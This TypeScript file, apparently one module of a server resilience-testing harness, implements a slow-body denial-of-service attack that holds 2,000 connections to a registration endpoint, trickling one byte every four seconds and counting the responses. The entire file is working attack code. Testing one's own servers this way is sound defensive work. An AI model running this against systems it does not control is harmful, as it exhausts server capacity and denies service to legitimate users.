import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "../attack.ts";
import { countResponses } from "../responses.ts";

const connections = 2_000;
const forMs = 60_000;
const byteEveryMs = 4_000;

/** Anonymous clients register with bodies that arrive a byte every four seconds. */
export const slowBodies: Attack = async ({ url }) => {
  const { hostname, port } = new URL(url);
  const responses = countResponses();
  const sockets = Array.from({ length: connections }, () => {
    const socket = connect(Number(port), hostname);
    let responded = false;
    socket.on("error", () => {});
    socket.on("data", (data: Buffer) => {
      if (responded) return;
      responded = true;
      responses.add(Number(/^HTTP\/1.1 (\d+)/.exec(data.toString("latin1", 0, 20))?.[1] ?? 0));
    });
    socket.on("close", () => responded || responses.add(0));
    const head = `POST /agent/v1/register HTTP/1.1\r\nHost: ${hostname}:${port}\r\nContent-Type: application/json\r\n`;
    socket.write(`${head}Content-Length: 60000\r\n\r\n{`);
    return socket;
  });
  const drip = setInterval(() => {
    for (const socket of sockets) if (socket.writable) socket.write(" ");
  }, byteEveryMs);
  await sleep(forMs);
  clearInterval(drip);
  const open = sockets.filter(({ closed }) => !closed).length;
  const text = responses.text();
  for (const socket of sockets) socket.destroy();
  return `${connections} connections: ${text}; ${open} still open after a minute`;
};
